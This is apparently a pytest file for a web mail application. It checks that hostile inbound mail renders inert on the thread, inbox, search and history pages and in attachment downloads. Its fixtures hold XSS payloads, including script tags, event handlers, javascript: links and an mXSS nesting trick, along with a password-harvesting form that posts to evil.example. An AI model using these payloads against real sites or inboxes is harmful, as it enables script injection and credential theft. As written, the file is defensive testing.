"""Hostile inbound mail must not run anything in the inbox: every page that shows it is checked."""

from __future__ import annotations

import re

from mailgate.models import Message
from tests.web.harness import (
    LiveServer,
    World,
    deliver,
    resident_mail,
    resident_writes,
    signed_in,
)

HOSTILE_NAME = "<script>alert('name')</script>"
HOSTILE_SUBJECT = '<script>alert(1)</script><img src=x onerror="alert(2)"> 入園'
HOSTILE_HTML = """
<html><head><style>body { display: none }</style>
<script>alert('head')</script><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="alert('body')">
<p>保育園の件です。</p>
<script>alert('inline')</script>
<img src="http://tracker.example/open.gif?id=42" width="1" height="1">
<img src="https://tracker.example/pixel.png">
<img src="//tracker.example/x.gif">
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">こちら</a>
<a href="JaVaScRiPt&#58;alert('entity')">entity</a>
<a href="https://example.jp/info" onclick="alert('click')">案内</a>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/steal" method="post"><input name="password"><button>送信</button></form>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<div style="background:url(http://tracker.example/bg.png)">背景</div>
<object data="http://evil.example/x.swf"></object>
<embed src="http://evil.example/x.swf">
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
</body></html>
"""

OUR_SCRIPT = '<script src="/static/mailgate.js'


def assert_inert(html: str) -> None:
    """No executable script, event handler, remote image, frame or foreign form in a page."""
    scripts = re.findall(r"<script\b[^>]*>", html, re.I)
    assert all(s.startswith(OUR_SCRIPT) for s in scripts), scripts
    assert len(scripts) == 1
    tags = re.findall(r"<[a-zA-Z][^>]*>", html)
    for tag in tags:
        assert not re.search(r"\son[a-z]+\s*=", tag, re.I), tag
        assert "javascript:" not in tag.lower(), tag
        assert not re.search(r"\sstyle\s*=", tag, re.I), tag
    for tag in re.findall(r"<img\b[^>]*>", html, re.I):
        src = re.search(r'\ssrc="([^"]*)"', tag)
        assert src is None or src.group(1).startswith(("/", "data:image/png")), tag
        assert src is None or not src.group(1).startswith("//"), tag
    for name in ("iframe", "object", "embed", "svg", "math", "style", "base", "meta http-equiv"):
        assert not re.search(rf"<{name}\b", html, re.I), name
    for action in re.findall(r'<form\b[^>]*action="([^"]*)"', html, re.I):
        assert action.startswith("/") and not action.startswith("//"), action
    assert "tracker.example" not in " ".join(re.findall(r"<img\b[^>]*>", html))


def hostile_thread(server: LiveServer, world: World) -> tuple[int, int]:
    message = resident_writes(
        server,
        world.own,
        sender="attacker@example.jp",
        name=f'"{HOSTILE_NAME}"',  # quoted, as a mail client would
        subject=HOSTILE_SUBJECT,
        body="保育園の件です。<script>alert('text')</script>",
        html=HOSTILE_HTML,
    )
    # The test is only meaningful if the hostile parts were stored as sent.
    assert "<script>" in message.subject and "<script>" in message.from_name
    assert "onerror" in message.html_body and "<script>" in message.text_body
    return message.thread_id, message.id or 0


def test_hostile_html_mail_renders_sanitised_in_the_thread(
    server: LiveServer, world: World
) -> None:
    thread_id, _ = hostile_thread(server, world)
    client = signed_in(server, world.own.staff)
    page = client.get(f"/threads/{thread_id}")
    assert page.status_code == 200
    html = page.text
    assert_inert(html)
    # What is harmless is still there, escaped or sanitised.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the subject, as text
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;" in html  # the sender's name
    assert "&lt;script&gt;alert(&#39;text&#39;)&lt;/script&gt;" in html  # the text body
    assert (
        '<a href="https://example.jp/info" target="_blank" rel="noopener noreferrer nofollow">'
        in html
    )
    assert "<p>保育園の件です。</p>" in html
    assert "外部の画像をブロックしました（4 件）" in html
    # The page itself is protected by a CSP without inline script.
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp


def test_hostile_subject_and_name_are_escaped_in_lists(server: LiveServer, world: World) -> None:
    thread_id, _ = hostile_thread(server, world)
    client = signed_in(server, world.own.staff)
    pages = {
        "inbox": client.get(f"/departments/{world.own.id}/inbox"),
        "search": client.get(f"/departments/{world.own.id}/inbox", params={"q": "保育園"}),
        "history": client.get(f"/departments/{world.own.id}/counterparts/attacker%40example.jp"),
    }
    for name, page in pages.items():
        assert page.status_code == 200, name
        assert_inert(page.text)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text, name
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;" in pages["inbox"].text
    assert f'href="/threads/{thread_id}#m' in pages["search"].text


def test_hostile_attachment_name_is_escaped_and_downloaded_inert(
    server: LiveServer, world: World
) -> None:
    message_id = deliver(
        server.engine,
        world.own.id,
        resident_mail(
            to=world.own.address,
            attachments=[
                ('"><script>alert(3)</script>.html', "text/html", b"<script>alert(4)</script>")
            ],
        ),
        world.own.address,
    )
    with server.session() as session:
        message = session.get(Message, message_id)
        assert message is not None
        thread_id = message.thread_id
    client = signed_in(server, world.own.staff)
    page = client.get(f"/threads/{thread_id}").text
    assert_inert(page)
    link = re.search(r'href="/attachments/(\d+)"', page)
    assert link
    download = client.get(f"/attachments/{link.group(1)}")
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"].startswith("attachment;")
    assert "<" not in download.headers["content-disposition"]
